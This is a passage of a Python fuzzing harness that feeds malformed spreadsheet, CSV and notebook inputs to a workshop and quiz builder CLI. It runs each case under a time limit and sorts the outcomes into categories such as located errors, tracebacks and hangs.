            expect = "error"
        if kind == "undecidable":
            target.write_text("No;Nama,NIP\n1;Budi,1\n", encoding="utf-8")
            expect = "error"
        if kind in ("latin1-csv", "utf16-csv", "tab-csv"):
            check = lambda r, n=name: _report_has_name(r, n)  # noqa: E731
    return Plan("quiz", ["quiz", "score", "--pre", str(target), "--out", str(out)], expect, check, note=kind)


def _report_has_name(root: Path, name: str) -> str | None:
    from openpyxl import load_workbook

    sheet = load_workbook(root / "hasil" / "nilai.xlsx")["Peserta"]
    names = [row[1].value for row in sheet.iter_rows(min_row=2)]
    return None if name in names else f"names in report: {names}"


FAMILIES: dict[str, Callable[[random.Random, Path], Plan]] = {
    "wrong-types": fam_wrong_types, "missing-keys": fam_missing_keys, "duplicate-keys": fam_duplicate_keys,
    "deep-nesting": fam_deep_nesting, "alias-bombs": fam_alias_bombs, "bom-crlf-tabs": fam_bom_crlf_tabs,
    "control-chars": fam_control_chars, "encodings": fam_encodings, "binary-files": fam_binary_files,
    "formulas": fam_formulas, "impossible-dates": fam_impossible_dates, "huge-rows": fam_huge_rows,
    "path-tricks": fam_path_tricks, "number-pattern": fam_number_pattern, "xlsx-cells": fam_xlsx_cells,
    "attendance": fam_attendance, "notebooks": fam_notebooks, "responses": fam_responses,
}


# ---------------------------------------------------------------- running

class _Hang(BaseException):
    """Raised by the alarm when a case runs past its time limit (not an Exception, so click does not catch it)."""


@contextlib.contextmanager
def time_limit(seconds: float):
    """Interrupt the block with :class:`_Hang` after ``seconds``."""
    def alarm(_signum, _frame):
        raise _Hang()
    previous = signal.signal(signal.SIGALRM, alarm)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


def prepare_bases(workdir: Path) -> dict[str, Path]:
    """Copies of the base projects, with the inputs the quiz and notebook cases need built once."""
    import nbformat
    from click.testing import CliRunner

    from builder.cli import main
    from builder.render.notebooks import build_notebook
    from builder.sources.project import load_workshop

    bases = {}
    for name in ("people", "quiz", "notebooks"):
        target = workdir / "bases" / name
        if target.exists():
            shutil.rmtree(target)
        shutil.copytree(ROOTS / name, target)
        (target / "kumpulan").mkdir()
        (target / "hasil").mkdir()
        bases[name] = target
    with _cwd(bases["quiz"]):
        assert CliRunner().invoke(main, ["build", "--only", "quizzes"]).exit_code == 0
    workshop, _report = load_workshop(bases["notebooks"] / "curriculum" / "uji-notebook.yaml")
    notebook = build_notebook(workshop, workshop.modules["latihan-notebook"])
    nbformat.write(notebook, str(bases["notebooks"] / "kumpulan" / "baik.ipynb"))
    return bases


@contextlib.contextmanager
def _cwd(path: Path):
    previous = os.getcwd()
    os.chdir(path)
    try:
        yield
    finally:
        os.chdir(previous)


@contextlib.contextmanager
def no_pdf():
    """Run certificate builds without LibreOffice (PDF conversion is not what is being fuzzed)."""
    import builder.render.certificates as certificates

    saved = certificates.find_soffice
    certificates.find_soffice = lambda: None
    try:
        yield
    finally:
        certificates.find_soffice = saved


def family_of(index: int, families: list[str]) -> str:
    """Cases cycle through the families so every family gets its share."""
    return families[index % len(families)]


def run_case(index: int, seed: int, family: str, bases: dict[str, Path], workdir: Path, timeout: float) -> Outcome:
    """Generate case ``index`` of ``family`` from ``seed``, run it and classify the result."""
    from click.testing import CliRunner

    from builder.cli import main

    rng = random.Random(f"{seed}:{index}:{family}")
    root = workdir / f"case-{index}"
    if root.exists():
        shutil.rmtree(root)
    base = _base_for(family)
    shutil.copytree(bases[base], root, symlinks=True)
    started = time.perf_counter()
    try:
        plan = FAMILIES[family](rng, root)
    except Exception:  # a fuzzer bug, not a finding: report it loudly
        return Outcome(index, family, "traceback", "generator failed", 0.0, traceback.format_exc())
    try:
        with _cwd(root), no_pdf(), time_limit(timeout):
            result = CliRunner().invoke(main, plan.args, catch_exceptions=True)
            seconds = time.perf_counter() - started
            kind, detail = classify(plan, result, root)
    except _Hang:
        return Outcome(index, family, "hang", plan.note, time.perf_counter() - started, f"> {timeout:.0f} s")
    finally:
        shutil.rmtree(root, ignore_errors=True)
    return Outcome(index, family, kind, plan.note, seconds, detail)


def _base_for(family: str) -> str:
    return {"notebooks": "notebooks", "responses": "quiz"}.get(family, "people")


def classify(plan: Plan, result, root: Path) -> tuple[str, str]:
    """Sort one command result into located / correct / traceback / hang / unlocated / wrong."""
    output = result.output or ""
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        text = "".join(traceback.format_exception(type(result.exception), result.exception, result.exception.__traceback__))
        return "traceback", text[-1500:]
    if "Traceback (most recent call last)" in output:
        return "traceback", output[-1500:]
    if result.exit_code == 0:
        if plan.expect == "error":
            return "wrong", "exit 0 where an error was due:\n" + output[-600:]
        if plan.check is not None:
            problem = plan.check(root)
            if problem:
                return "wrong", problem
        return "correct", ""
    error_lines = [line for line in output.splitlines() if "error:" in line]
    if result.exit_code == 2 and any(LOCATED.search(line) for line in error_lines) and "hint:" in output:
        if plan.expect == "ok":
            return "wrong", "an error where the input was fine:\n" + output[-600:]
        return "located", ""
    return "unlocated", f"exit {result.exit_code}:\n" + output[-800:]


def run(cases: int, seed: int, workdir: Path, families: list[str] | None = None, timeout: float = 60.0,
        progress: Callable[[Outcome], None] = lambda o: None) -> Tally:
    """Run ``cases`` cases round-robin over ``families`` (all by default) and tally the outcomes."""
    families = families or list(FAMILIES)
    workdir.mkdir(parents=True, exist_ok=True)
    bases = prepare_bases(workdir)
    tally = Tally()
    for index in range(cases):
        outcome = run_case(index, seed, family_of(index, families), bases, workdir, timeout)
        tally.add(outcome)
        progress(outcome)
    return tally
